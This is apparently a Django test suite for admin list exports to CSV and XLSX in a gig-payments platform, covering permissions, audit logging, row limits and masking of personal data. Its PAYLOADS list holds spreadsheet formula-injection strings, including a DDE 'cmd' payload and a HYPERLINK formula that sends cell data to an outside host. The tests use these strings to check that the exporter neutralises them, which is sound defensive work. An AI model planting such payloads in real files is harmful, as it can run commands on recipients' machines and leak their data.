"""Lists as files: exactly the filtered rows, exact, harmless in a spreadsheet, only for those with
permission, and on record."""

import csv
import io
import re
import tracemalloc
import zipfile
from datetime import UTC, datetime
from decimal import Decimal
from string import ascii_uppercase
from urllib.parse import urlencode
from xml.etree import ElementTree

import pytest
from django.contrib.auth.models import Group, Permission, User
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from audit.models import AuditLog
from gigstream.adminkit import downloads
from gigstream.core.spreadsheets import FILE_FORMATS, cell_text
from loans.applications import services as loans
from loans.models import Loan
from loans.policy.reports import LoanRepaymentStatus, WorkerEarnings, WorkerRiskAssessment
from payments import services as payments
from payments.figures.reports import ActiveStream, DailyTransactionSummary, PlatformPerformance
from payments.models import LedgerEntry, Transaction
from platforms import services as platforms
from platforms.figures.reports import TaskCompletionStats
from reputation.scores.reports import ReputationHistory
from tests.support.database.reader import reading_only
from tests.support.factories import NOW, WorkerFactory, fund, running_stream, seconds, settle, started

EXPORTED = (
    WorkerEarnings,
    PlatformPerformance,
    DailyTransactionSummary,
    WorkerRiskAssessment,
    ActiveStream,
    TaskCompletionStats,
    ReputationHistory,
    LoanRepaymentStatus,
    Transaction,
    LedgerEntry,
    Loan,
    AuditLog,
)
BEGINNINGS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
LETTERS = [*ascii_uppercase, *(f"A{one}" for one in ascii_uppercase)]
PAYLOADS = (
    *(f"{sign}1+1" for sign in BEGINNINGS),
    *(f"  {sign}cmd|' /C calc'!A0" for sign in BEGINNINGS),
    *(f"\u00a0{sign}HYPERLINK(A1)" for sign in BEGINNINGS),
    "\t=1",
    "\r=1",
    "\n=1",
    " \n\t@SUM(A1)",
    "\ufeff=1",
    "\u200b=1",
    "\u2060-2",
    '=HYPERLINK("http://example.com?"&A1,\n"two lines")',
    "\tplain",
)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("without_the_menu")]


def sheet(content):
    """Return the cells of a workbook's only sheet: text, or the number as it is written."""
    names = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        assert not re.search(rb"<f[ >]", book.read("xl/worksheets/sheet1.xml"))
        root = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))  # noqa: S314 - of our making
    rows = []
    for row in root.iterfind(".//m:row", names):
        cells = {}
        for cell in row.findall("m:c", names):
            letters = re.match("[A-Z]+", cell.get("r"))[0]
            cells[letters] = "".join(part.text for part in cell.iter() if part.text)
        rows.append([cells.get(letters, "") for letters in LETTERS[: len(rows[0]) if rows else len(cells)]])
    return rows


def lines(content):
    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))


def member(*permissions):
    user = User.objects.create_user(f"m{User.objects.count()}", password="x", is_staff=True)
    user.user_permissions.set(Permission.objects.filter(codename__in=permissions))
    client = Client()
    client.force_login(user)
    client.user = user
    return client


@pytest.fixture
def clerk():
    return member(*(f"view_{model._meta.model_name}" for model in EXPORTED), "export_lists")


def address(model, form="csv"):
    return reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export_{form}")


def asked(client, model, form="csv", **query):
    """Ask for the file and return the answer at the end of the redirects."""
    return client.post(f"{address(model, form)}?{urlencode(query)}", follow=True)


def exported(client, model, form="csv", **query):
    answer = asked(client, model, form, **query)
    assert answer.status_code == 200, (model, answer.status_code)
    assert answer.streaming
    assert answer["Content-Type"] == FILE_FORMATS[form].media_type
    assert f'filename="{model._meta.model_name}.{form}"' in answer["Content-Disposition"]
    return b"".join(answer.streaming_content)


def statements(client, model):
    """Return how many statements it takes to ask for the file, and to read it."""
    with CaptureQueriesContext(connection) as asking:
        file = client.post(address(model))["Location"]
    with CaptureQueriesContext(connection) as reading:
        client.get(file)
    return len(asking), len(reading)


def some_work():
    worker = WorkerFactory(full_name="=1+1")
    for amount in ("10", "12345678901.234567"):
        platform = running_stream(worker, total="5").platform
        fund(platform, "90000000000")
        platforms.complete_task(task_id=started(worker, platform=platform, amount=amount).pk, now=NOW)
    payments.cash_out(worker_id=worker.pk, amount="4", now=NOW)
    settle(NOW + seconds(30))
    loans.request_loan(worker_id=WorkerFactory().pk, amount="20", fee_bps=200, now=NOW)
    return worker


def test_every_list_is_exported_as_it_is_listed_in_both_forms_by_fixed_statements(clerk):
    worker = some_work()
    counts = {}
    for model in EXPORTED:
        counts[model] = statements(clerk, model)
        assert max(counts[model]) <= 16, model
        listed = model._default_manager.count() + (1 if model is AuditLog else 0)
        everything = {"machines": "1"} if model is AuditLog else {}
        rows = lines(exported(clerk, model, **everything))
        assert len(rows) == listed > 0, model
        cells = sheet(exported(clerk, model, "xlsx", **everything))
        extra = 1 if model is AuditLog else 0
        assert len(cells) == listed + extra + 1
        assert cells[0] == list(rows[0])
        assert not {"password_hash", "wallet_id", "secret_hash"} & set(cells[0])
    some_work()
    for model in EXPORTED:
        assert statements(clerk, model) == counts[model], model
    (row,) = lines(exported(clerk, WorkerEarnings, worker=worker.pk))
    assert (row["worker_id"], row["worker_name"]) == (str(worker.pk), "'=1+1")


def test_amounts_are_exact_and_times_are_utc(clerk):
    some_work()
    large = LedgerEntry.objects.get(kind="earning", amount__gt=1000)

    (row,) = lines(exported(clerk, LedgerEntry, q=large.pk))
    assert row["amount"] == "12345678901.234567"
    assert row["created_at"] == "2026-03-02T12:00:00Z"
    assert row["credit_account_worker_id"] == str(large.credit_account.worker_id)

    header, cells = sheet(exported(clerk, LedgerEntry, "xlsx", q=large.pk))
    assert cells[header.index("amount")] == "12345678901.234567"
    assert cell_text(Decimal("-0.000001")) == "-0.000001"
    small = dict(zip(*sheet(exported(clerk, Transaction, "xlsx", type__exact="payout")), strict=True))
    assert Decimal(small["amount"]) == 4


def test_the_file_holds_what_filter_and_search_leave_and_is_on_record(clerk):
    worker = some_work()
    other = some_work()

    rows = lines(exported(clerk, Transaction, type__exact="payout", q=other.email))

    (payout,) = Transaction.objects.filter(worker=other, type="payout")
    assert [row["id"] for row in rows] == [str(payout.pk)]
    line = AuditLog.objects.get(action="list.export")
    assert (line.actor_type, line.actor_id) == ("staff", str(clerk.user.pk))
    assert (line.resource_type, line.metadata["rows"], line.metadata["form"]) == ("transaction", 1, "csv")
    assert line.metadata["filters"] == "type__exact=payout"
    assert other.email not in str(line.metadata)
    assert (
        len(lines(exported(clerk, Transaction, worker=worker.pk)))
        == Transaction.objects.filter(worker=worker).count()
    )
    assert lines(exported(clerk, Transaction, created_at__year=2026, created_at__month=3))
    assert not lines(exported(clerk, Transaction, created_at__year=2025))


def test_a_list_beyond_the_limit_is_refused_with_the_limit_and_nothing_is_recorded(clerk, settings):
    some_work()
    settings.EXPORT_MAX_ROWS = 2
    for form in FILE_FORMATS:
        answer = asked(clerk, LedgerEntry, form, kind__exact="hold")
        assert answer.redirect_chain[-1][0].endswith("?kind__exact=hold")
        (said,) = [str(message) for message in answer.context["messages"]]
        assert said == "The list has more than 2 rows: narrow it by filters. Nothing was exported."
    assert not AuditLog.objects.filter(action="list.export").exists()
    settings.EXPORT_MAX_ROWS = 4
    assert len(lines(exported(clerk, LedgerEntry, kind__exact="hold"))) == 4


def test_who_may_only_see_a_list_takes_no_file_and_the_exporter_only_what_they_see(clerk):
    some_work()
    viewer = member("view_transaction")
    exporter = member("view_loan", "export_lists")
    for form in FILE_FORMATS:
        assert asked(viewer, Transaction, form).status_code == 403
        assert asked(exporter, Transaction, form).status_code == 403
        assert asked(exporter, Loan, form).status_code == 200
        assert clerk.put(address(Loan, form)).status_code == 403
        assert Client().post(address(Loan, form)).status_code == 302
    listed = reverse("admin:payments_transaction_changelist")
    assert "export.csv" not in viewer.get(listed).content.decode()
    assert "export.csv?type__exact=payout" in clerk.get(listed, {"type__exact": "payout"}).content.decode()


def test_a_file_is_read_only_by_who_asked_for_it_and_only_for_a_while(clerk, monkeypatch):
    some_work()
    other = member("view_loan", "view_transaction", "export_lists")
    asking = clerk.post(f"{address(Loan)}?status__exact=pending")
    file = asking["Location"]

    with reading_only():
        assert clerk.get(file).streaming
    assert AuditLog.objects.filter(action="list.export").count() == 1, "reading it again is not a new file"
    elsewhere = (
        (other, file),
        (clerk, file.replace("pending", "repaid")),
        (clerk, file.replace(address(Loan), address(Transaction))),
        (clerk, file.replace("export.csv", "export.xlsx")),
        (clerk, f"{file}x"),
        (clerk, address(Loan)),
    )
    for client, url in elsewhere:
        refused = client.get(url, follow=True)
        assert "Ask for the file by its button" in refused.content.decode(), url
        assert refused.redirect_chain
    monkeypatch.setattr(downloads, "TICKET_SECONDS", -1)
    assert clerk.get(file).status_code == 302


def test_personal_data_are_hidden_in_a_file_from_whom_they_are_hidden_on_the_pages(clerk):
    worker = WorkerFactory(full_name="Grace Brewster Hopper")
    platforms.complete_task(task_id=started(worker, amount="10").pk, now=NOW)
    payments.cash_out(worker_id=worker.pk, amount="4", now=NOW)
    hidden = {worker.full_name, worker.wallet_address}

    for form in FILE_FORMATS:
        rows = str([sheet, lines][form == "csv"](exported(clerk, Transaction, form)))
        assert not any(text in rows for text in hidden)
        assert "Grace H." in rows
    clerk.user.user_permissions.add(Permission.objects.get(codename="see_personal_data"))
    (row,) = lines(exported(clerk, Transaction, type__exact="payout"))
    assert hidden == {row["worker_name"], row["to_wallet"]}


def test_every_desk_but_support_takes_files_out():
    names = ("operations", "finance", "risk", "support", "auditor")
    may = {}
    for name in names:
        client = member()
        client.user.groups.set(Group.objects.filter(name=name))
        may[name] = asked(client, Loan).status_code
    assert may == {**dict.fromkeys(names, 200), "support": 403}


@pytest.mark.parametrize("form", FILE_FORMATS)
def test_no_payload_from_outside_is_a_formula_in_a_file(form):
    assert len(PAYLOADS) > 30
    file = io.BytesIO()
    rows = [(text, f"safe {text}", Decimal("-1.5"), -7, None, True) for text in PAYLOADS]

    assert FILE_FORMATS[form].write(
        file, ["text", "inside", "amount", "number", "nothing", "flag"], iter(rows)
    ) == len(rows)

    if form == "csv":
        read = [list(row) for row in csv.reader(io.StringIO(file.getvalue().decode(), newline=""))][1:]
        assert [row[0] for row in read] == [f"'{text}" for text in PAYLOADS]
        assert [row[1] for row in read] == [f"safe {text}" for text in PAYLOADS]
        assert {tuple(row[2:]) for row in read} == {("-1.5", "-7", "", "true")}
    else:
        read = sheet(file.getvalue())[1:]
        assert all(row[0].startswith("'") for row in read)
        assert {tuple(row[2:]) for row in read} == {("-1.5", "-7", "", "true")}


@pytest.mark.long_form
@pytest.mark.parametrize("form", FILE_FORMATS)
def test_memory_stays_the_same_however_long_the_list(form, tmp_path):
    rows = ((number, f"{number} {'x' * 1000}") for number in range(10_000))
    with (tmp_path / form).open("wb+") as file:
        FILE_FORMATS[form].write(io.BytesIO(), ["number", "text"], [])
        tracemalloc.start()
        FILE_FORMATS[form].write(file, ["number", "text"], rows)
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert peak < 2_000_000


def test_dates_lead_into_a_list_without_reading_it(clerk):
    listed = reverse("admin:payments_transaction_changelist")
    with CaptureQueriesContext(connection) as captured:
        html = clerk.get(listed, {"created_at__year": "2026", "created_at__month": "3"}).content.decode()
    assert "created_at__day=31" in html
    assert "created_at__month=3" in html
    assert not [one for one in captured if "MIN(" in one["sql"] or "DATE_TRUNC" in one["sql"]]
    assert clerk.get(listed, {"created_at__year": "2026", "created_at__month": "13"}).status_code == 400
    assert asked(clerk, Transaction, created_at__year=2026, created_at__month=13).status_code == 400
    before = datetime.now(UTC)
    years = re.findall(r"created_at__year=(\d+)", clerk.get(listed).content.decode())
    assert int(max(years)) in {before.year, datetime.now(UTC).year}
    assert len(set(years)) == 5
